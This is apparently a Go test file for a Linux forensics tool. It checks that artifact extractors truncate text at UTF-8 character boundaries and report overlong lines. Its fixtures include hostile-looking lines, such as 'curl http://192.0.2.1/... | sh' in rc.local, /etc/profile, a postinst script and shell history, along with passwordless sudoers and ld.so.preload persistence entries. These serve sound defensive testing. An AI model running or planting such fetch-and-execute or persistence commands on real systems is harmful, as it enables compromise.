package all_test

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/all"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/filesystem"
)

// Text is cut at characters, wherever an extractor cuts it: of Chinese names,
// commands and messages, longer than what is kept, no field ends in half a character.
func TestCutAtCharacters(t *testing.T) {
	long := func(n int) string { return strings.Repeat("汉字", n) }
	cut := 0
	for _, f := range []artifacttest.File{
		{Path: "/root/.bash_history", Text: "echo ~" + long(12000) + "\n"},
		{Path: "/root/.bash_history", Text: "cat <<E\n" + strings.Repeat(long(4000)+"\n", 4) + "E\n"},
		{Path: "/root/.zsh_history", Text: "echo ~" + long(12000) + "\\\n" + long(12000) + "\n"},
		{Path: "/root/.local/share/fish/fish_history", Text: "- cmd: echo ~" + long(12000) + "\n"},
		{Path: "/var/log/auth.log", Text: "Nov 20 07:50:00 h sshd[1]: Failed password for invalid user ~" + long(100) + " from 192.0.2.1 port 5 ssh2\n"},
		{Path: "/var/log/auth.log", Text: "Nov 20 07:50:00 h sudo:   web : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo ~" + long(12000) + "\n"},
		{Path: "/etc/crontab", Text: "* * * * * root echo ~" + long(12000) + "\n"},
		{Path: "/etc/crontab", Text: "@~" + long(20) + " root true\n"},
		{Path: "/etc/crontab", Text: "~" + long(20) + " * * * * root true\n"},
		{Path: "/etc/sudoers", Text: "web ALL=(ALL) NOPASSWD: /usr/bin/~" + long(12000) + "\n"},
		{Path: "/etc/sudoers", Text: "web ALL=(ALL) NOPASSWD: /usr/bin/~" + long(50000) + "\n"},
		{Path: "/root/.ssh/authorized_keys", Text: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGkq+7e6S2y1Y1Yq0dX0c0gX4m8QX8X2vRfW5h0m1w0T ~" + long(2000) + "\n"},
		{Path: "/root/.ssh/authorized_keys", Text: "environment=\"A=~" + long(2000) + "\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGkq+7e6S2y1Y1Yq0dX0c0gX4m8QX8X2vRfW5h0m1w0T c\n"},
		{Path: "/root/.ssh/authorized_keys", Text: "ssh-ed25519 ~" + long(2000) + "\n~" + long(2000) + "\n"},
		{Path: "/root/.ssh/authorized_keys", Text: "ssh-ed25519 AAAA ~" + long(20000) + "\n"},
		{Path: "/etc/passwd", Text: "web:x:1000:1000:~" + long(12000) + ":/home/web:/bin/bash\n"},
		{Path: "/etc/ld.so.conf", Text: "/opt/~" + long(2000) + "\n"},
		{Path: "/etc/environment", Text: "A=~" + long(12000) + "\n"},
		{Path: "/etc/inittab", Text: "~" + long(20) + ":~" + long(20) + ":~" + long(20) + ":/bin/true\n"},
		{Path: "/etc/modules", Text: "~" + long(12000) + "\n"},
		{Path: "/etc/hosts", Text: "192.0.2.1 ~" + long(12000) + "\n"},
		{Path: "/etc/systemd/system/a.service", Text: "[Service]\nExecStart=/bin/echo ~" + long(12000) + "\n"},
		{Path: "/var/lib/dpkg/info/a.postinst", State: filesystem.Deleted, Text: "#!/bin/sh\nset -e\nexit 0\n/tmp/~" + long(1000) + "\n"},
		{Path: "/var/lib/dpkg/info/a.postinst", State: filesystem.Deleted, Text: "#!/bin/sh\ncurl http://192.0.2.1/~" + long(1000) + " | sh\n"},
		{Path: "/var/log/apt/history.log", Text: "Start-Date: 2026-11-20  07:50:00\nCommandline: apt install ~" + long(12000) + "\nEnd-Date: 2026-11-20  07:50:01\n\n"},
		{Path: "/etc/rc.local", Mode: 0o100755, Text: "#!/bin/sh\ncurl http://192.0.2.1/~" + long(1000) + " | sh\n", OSID: "debian"},
		{Path: "/etc/profile", Text: "curl http://192.0.2.1/~" + long(2000) + " | sh\n"},
		{Path: "/etc/udev/rules.d/a.rules", Text: "ACTION==\"add~" + long(1000) + "\", RUN+=\"/bin/sh -c 'echo ~" + long(10000) + "'\"\n"},
	} {
		for _, shift := range []string{"", "a", "ab"} {
			f := f
			f.Text = strings.ReplaceAll(f.Text, "~", shift)
			for _, x := range all.Extractors() {
				if !takes(x, f.Path) {
					continue
				}
				records, err := artifacttest.Extract(t, x, f)
				if err != nil && !utf8.ValidString(err.Error()) {
					t.Errorf("%s: %q", f.Path, err)
				}
				for _, r := range records {
					for _, v := range r.Fields {
						if !utf8.ValidString(v.Text()) {
							t.Errorf("%s: %s of %s, %d bytes, ends with %q", f.Path, v.Name, r.Kind, len(v.Text()), v.Text()[max(0, len(v.Text())-4):])
						}
						if strings.HasSuffix(v.Text(), "汉") || len(v.Text()) < len(f.Text)/2 && strings.HasSuffix(v.Text(), "汉字") {
							cut++
						}
					}
				}
			}
		}
	}
	if cut < 20 {
		t.Errorf("only %d fields were cut", cut)
	}
}

// takes says whether a pattern of an extractor names a path.
func takes(x artifact.Extractor, p string) bool {
	return slices.ContainsFunc(x.Patterns(), func(pattern string) bool { return artifact.Match(pattern, p) })
}

// TestLongLines: what stands behind the first MiB of a line is not read, and that is said
// by every extractor that reads lines; what follows the line is read.
func TestLongLines(t *testing.T) {
	long := strings.Repeat("x", artifact.MaxLine+10)
	for p, text := range map[string]string{
		"/etc/crontab":                  "#" + long + "\n* * * * * root /tmp/a\n",
		"/etc/udev/rules.d/a.rules":     "#" + long + "\nRUN+=\"/tmp/a\"\n",
		"/etc/logrotate.d/a":            "#" + long + "\npostrotate\n/tmp/a\nendscript\n",
		"/etc/apt/apt.conf.d/a":         "//" + long + "\nDPkg::Post-Invoke \"/tmp/a\";\n",
		"/etc/xdg/autostart/a.desktop":  "#" + long + "\nExec=/tmp/a\n",
		"/etc/sudoers":                  "#" + long + "\na ALL=/tmp/a\n",
		"/root/.ssh/authorized_keys":    "#" + long + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGkq+7e6S2y1Y1Yq0dX0c0gX4m8QX8X2vRfW5h0m1w0T c\n",
		"/etc/passwd":                   "#" + long + "\na:x:0:0::/:/bin/sh\n",
		"/etc/hosts":                    "#" + long + "\n192.0.2.1 a\n",
		"/etc/modules-load.d/a.conf":    "#" + long + "\nevil\n",
		"/etc/ld.so.preload":            "#" + long + "\n/tmp/a.so\n",
		"/etc/inittab":                  "#" + long + "\na:2:respawn:/tmp/a\n",
		"/etc/systemd/system/a.service": "#" + long + "\n[Service]\nExecStart=/tmp/a\n",
		"/root/.bash_history":           "echo " + long + "\ncurl http://192.0.2.1/a | sh\n",
		"/etc/dpkg/dpkg.cfg":            "#" + long + "\npost-invoke=/tmp/a\n",
	} {
		n := 0
		for _, x := range all.Extractors() {
			if !takes(x, p) || x.Name() == "writable" { // which reads no content
				continue
			}
			records, err := artifacttest.Extract(t, x, artifacttest.File{Path: p, Text: text, OSID: "debian"})
			n += len(records)
			if err == nil || !strings.Contains(err.Error(), "longer than") || !artifact.IsCut(err) {
				t.Errorf("%s: %s says %v", p, x.Name(), err)
			}
		}
		if n == 0 {
			t.Errorf("%s: nothing is read behind the line", p)
		}
	}
}
